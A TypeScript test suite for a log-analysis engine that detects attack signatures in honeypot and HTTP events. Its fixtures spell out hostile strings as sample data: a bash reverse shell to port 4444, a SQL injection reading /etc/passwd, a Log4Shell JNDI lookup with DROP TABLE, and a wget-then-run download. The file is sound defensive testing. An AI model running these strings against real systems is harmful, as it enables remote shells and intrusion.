import {mkdirSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import {describe, expect, it, onTestFinished} from "vitest";
import {type Database, openDatabase} from "../../../data-loaders/database.js";
import {readTexts} from "../../../data-loaders/read-content.js";
import {findSignatures} from "../../../src/engine/analysis/detect/find-signatures.js";
import {selectSignatureHits, selectSignatures} from "../../../src/engine/signatures/queries.js";
import {signatureHits, signatures} from "../../../src/engine/tables/signatures.js";
import {makeDirectory} from "../directory.js";

const progress = {stage() {}, update() {}, end() {}};
const {files: rules} = await readTexts("data/signatures", /\.yml$/);

const columns = ["http_url", "http_user_agent", "http_host", "payload", "command", "message", "username"];
const others = ["file_name", "dns_query"];

/** A database whose events have these columns, the others being null. */
async function withLogs(events: readonly Readonly<Record<string, string>>[]): Promise<Database> {
  const database = await openDatabase(makeDirectory(), 2);
  onTestFinished(() => database.close());
  const names = ["seq", "event_id", "dataset", "event_type", "attacker_ip", ...columns, ...others];
  await database.run(
    `CREATE TABLE logs (${names.map(n => `${n} ${n === "seq" ? "INTEGER" : "VARCHAR"}`).join(", ")})`
  );
  for (const [seq, event] of events.entries()) {
    const row = {
      seq: String(seq),
      event_id: `e${seq}`,
      attacker_ip: "192.0.2.9",
      dataset: "suricata",
      event_type: "http",
      ...event
    };
    const values = Object.values(row).map(value => `'${value.replaceAll("'", "''")}'`);
    await database.run(`INSERT INTO logs (${Object.keys(row).join(", ")}) VALUES (${values.join(", ")})`);
  }
  await database.run("CREATE VIEW events AS SELECT *, NULL::VARCHAR AS signature FROM logs");
  await database.run("CREATE TABLE alerts (detector VARCHAR, rule VARCHAR)");
  await database.run(`CREATE TABLE evidence
    (seq INTEGER, detector VARCHAR, rule VARCHAR, finding VARCHAR, reason VARCHAR, technique VARCHAR, level INTEGER)`);
  return database;
}

const evidence = (database: Database) => database.rows("SELECT * FROM evidence ORDER BY seq, rule");

describe("finding payload signatures", () => {
  it("leaves evidence that names the signature, the field and the technique", async () => {
    const database = await withLogs([
      {http_url: "/index.html", http_user_agent: "curl/8.5.0"},
      {http_url: "/catalog?id=1%20AND%20LOAD_FILE(%27/etc/passwd%27)"}
    ]);
    expect(await findSignatures(database, rules, progress)).toMatchObject({hits: 1, errors: []});
    expect(await evidence(database)).toEqual([
      {
        seq: 1,
        detector: "payload",
        rule: "sql-file-access",
        finding: "SQL injection attempt",
        reason:
          "Database told to read or write files or run commands: the signature sql-file-access matches the URL.",
        technique: "T1190",
        level: 3
      }
    ]);
  });

  it("passes over files on their way, whose source may be the server that was asked", async () => {
    const http_user_agent = "sqlmap/1.8";
    const database = await withLogs([{http_user_agent}, {http_user_agent, event_type: "fileinfo"}]);
    expect(await findSignatures(database, rules, progress)).toMatchObject({hits: 1});
  });

  it("finds the same text in every event that holds it, and each signature once per event", async () => {
    const agent = "sqlmap/1.8";
    const database = await withLogs([
      {http_user_agent: agent, payload: `GET / HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`},
      {http_user_agent: agent}
    ]);
    expect(await findSignatures(database, rules, progress)).toMatchObject({hits: 2});
    expect(await database.rows("SELECT seq, signature, field FROM signature_hits ORDER BY seq")).toEqual([
      {seq: 0, signature: "agent-attack-tool", field: "http_user_agent"},
      {seq: 1, signature: "agent-attack-tool", field: "http_user_agent"}
    ]);
  });

  it("calls nothing in a honeypot worse than medium", async () => {
    const command = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
    const database = await withLogs([
      {dataset: "cowrie", command, payload: command},
      {dataset: "authlog", command}
    ]);
    await findSignatures(database, rules, progress);
    expect((await evidence(database)).map(({seq, rule, level}) => ({seq, rule, level}))).toEqual([
      {seq: 0, rule: "reverse-shell-bash", level: 2},
      {seq: 1, rule: "reverse-shell-bash", level: 3}
    ]);
  });

  it("publishes its tables with the columns of their schemas", async () => {
    const database = await withLogs([{username: `\${jndi:ldap://203.0.113.9/a}'; DROP TABLE x--`}]);
    await findSignatures(database, rules, progress);
    await database.run(
      "INSERT INTO alerts VALUES ('payload', 'log4shell-lookup'), ('sigma', 'log4shell-lookup')"
    );
    const published = await database.rows(selectSignatures);
    expect(Object.keys(published[0] ?? {})).toEqual(signatures.columns.map(c => c.name));
    expect(published.find(row => row.signature_id === "log4shell-lookup")).toMatchObject({
      level: "high",
      hits: 1,
      attackers: 1,
      alerts: 1
    });
    const [hit] = await database.rows(selectSignatureHits);
    expect(Object.keys(hit ?? {})).toEqual(signatureHits.columns.map(c => c.name));
    expect(hit).toMatchObject({event_id: "e0", field: "username"});
  });

  it("goes on without what is refused, and counts it", async () => {
    const directory = join(makeDirectory(), "signatures");
    mkdirSync(directory);
    writeFileSync(join(directory, "broken.yml"), "signatures: [");
    writeFileSync(
      join(directory, "own.yml"),
      `finding: Ours
technique: T1190
fields: [command]
signatures:
  - {id: ours, title: Ours, description: Ours., level: low, patterns: [evil]}
  - {id: bad, title: Bad, description: Bad., level: low, patterns: ['(?=x)']}
`
    );
    const database = await withLogs([{command: "EVIL"}]);
    const {signatures, hits, errors} = await findSignatures(
      database,
      (await readTexts(directory, /\.yml$/)).files,
      progress
    );
    expect({signatures, hits}).toEqual({signatures: 1, hits: 1});
    expect(errors).toEqual([
      expect.stringMatching(/^signatures\/broken\.yml:1:/),
      expect.stringMatching(/^signatures\/own\.yml:6:\d+: invalid pattern: \(\?=x\)/)
    ]);
  });

  it("leaves empty tables where there are no signatures", async () => {
    const database = await withLogs([{command: "wget http://203.0.113.9/x; sh x"}]);
    expect(await findSignatures(database, [], progress)).toEqual({
      signatures: 0,
      hits: 0,
      errors: []
    });
    expect(await database.rows(selectSignatures)).toEqual([]);
    expect(await evidence(database)).toEqual([]);
  });
});
